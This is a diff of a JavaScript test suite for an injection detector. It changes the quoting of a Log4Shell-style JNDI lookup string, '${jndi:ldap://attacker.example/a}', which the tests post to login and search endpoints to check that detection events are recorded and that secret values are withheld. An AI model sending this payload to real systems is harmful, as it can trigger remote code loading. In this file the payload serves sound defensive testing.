@@ -673,7 +673,7 @@ describe('injection detector', () => {
 
   test('the input, the rule, whether the app took it; a value under a secret name is never recorded', async () => {
     const h = await harness({}, jsonApp)
-    const lookup = '${jndi:ldap://attacker.example/a}'
+    const lookup = `\${jndi:ldap://attacker.example/a}`
     await post(`${h.url}/login`, { username: 'alice', password: lookup })
     await post(`${h.url}/search?status=403`, { filter: { q: lookup } })
     const events = await h.of('malicious_jndi_injection')
@@ -692,7 +692,7 @@ describe('injection detector', () => {
   })
 
   test('a class switched off is not looked for; the detector switched off costs nothing', async () => {
-    const lookup = '${jndi:ldap://attacker.example/a}'
+    const lookup = `\${jndi:ldap://attacker.example/a}`
     const off = await harness({ detectors: { injection: { jndi: false } } }, jsonApp)
     await post(`${off.url}/x`, { q: lookup })
     assert.deepEqual(await off.of('malicious_jndi_injection'), [])
